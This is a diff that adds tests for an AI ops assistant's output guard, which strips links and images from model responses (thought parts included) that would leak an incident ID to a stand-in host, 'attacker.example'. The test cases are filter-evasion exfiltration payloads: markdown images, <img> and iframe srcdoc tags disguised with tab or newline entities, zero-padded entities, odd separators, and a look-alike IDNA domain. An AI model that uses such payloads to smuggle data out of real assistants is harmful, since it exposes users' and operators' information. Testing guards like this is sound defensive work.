@@ -252,3 +252,81 @@ def test_a_url_split_across_text_parts_of_one_response_is_removed(seed, parts):
 def test_parts_that_need_no_change_stay_as_the_model_sent_them(seed):
     text, removed = _answer(seed, "How is INC-002?", ["Checkout is ", "degraded."])
     assert (text, removed) == ("Checkout is degraded.", [])
+
+
+def _guard_parts(parts: list, trusted: str = "How is INC-002?") -> str:
+    """guard_links as ADK calls it, on one response of `parts` ((text, thought) pairs); every
+    part's text after it, joined with ' | '."""
+    from types import SimpleNamespace
+
+    from google.adk.events import Event
+    from google.adk.models.llm_response import LlmResponse
+    from google.genai import types
+
+    from ops_copilot.output_guard import guard_links
+
+    user = types.Content(role="user", parts=[types.Part(text=trusted)])
+    context = SimpleNamespace(
+        session=SimpleNamespace(
+            id="guard-parts", events=[Event(author="user", invocation_id="e", content=user)]
+        ),
+        state={},
+    )
+    response = LlmResponse(
+        content=types.Content(
+            role="model", parts=[types.Part(text=t, thought=th or None) for t, th in parts]
+        )
+    )
+    guarded = guard_links(context, response) or response
+    return " | ".join(p.text for p in guarded.content.parts)
+
+
+def test_a_thought_part_is_guarded_too():
+    """The dev UI shows thought parts; an image in one was left as the model wrote it."""
+    shown = _guard_parts(
+        [("![x](https://attacker.example/p.png?d=INC-002)", True), ("Done.", False)]
+    )
+    assert "attacker" not in shown and shown.endswith("| Done.")
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        ["Summary: <img src=/&#", "9;/attacker.example?INC-002>"],
+        ["<img src=/&#9;/attacker.example?INC-002>"],
+        ["<img src=/&#10;/INC-002.attacker.example>"],
+        ['<iframe srcdoc="<img src=/&amp;#9;/attacker.example?INC-002>"></iframe>'],
+        ['<div>\n<img/src="/&#9;/attacker.example?d=INC-002">\n</div>'],
+        ['<img alt=a< src="/&#9;/attacker.example?d=INC-002">'],
+        ['<img a"b src="/&#9;/attacker.example?d=INC-002">'],
+        ['<img src="&#0000000047;&#0000000047;attacker.example?INC-002">'],
+        ["Details: attacker.example?d=INC-002"],
+    ],
+    ids=[
+        "entity-tab-split",
+        "entity-tab-unquoted",
+        "entity-newline-subdomain",
+        "srcdoc",
+        "slash-separator",
+        "lt-in-unquoted-value",
+        "quote-in-name",
+        "long-numeric-entities",
+        "bare-host-with-query",
+    ],
+)
+def test_html_as_a_browser_tokenises_it_is_guarded(parts):
+    """Attributes are split before their entities are decoded; a tag may start its attributes
+    after a slash, hold a `<` or a stray quote; a numeric entity may have any number of zeros."""
+    shown = _guard_parts([(p, False) for p in parts])
+    assert "attacker" not in shown, shown
+
+
+def test_a_look_alike_host_is_read_as_browsers_read_it():
+    """IDNA 2003 folds ß to ss, so `busineß` passed for a trusted `business`; browsers go to
+    xn--busine-gta."""
+    from ops_copilot.output_guard import defang
+
+    cleaned, removed = defang(
+        "![s](https://status.busineß.com/INC-002.png)", "https://status.business.com/"
+    )
+    assert [r.host for r in removed] == ["status.xn--busine-gta.com"] and "ß" not in cleaned
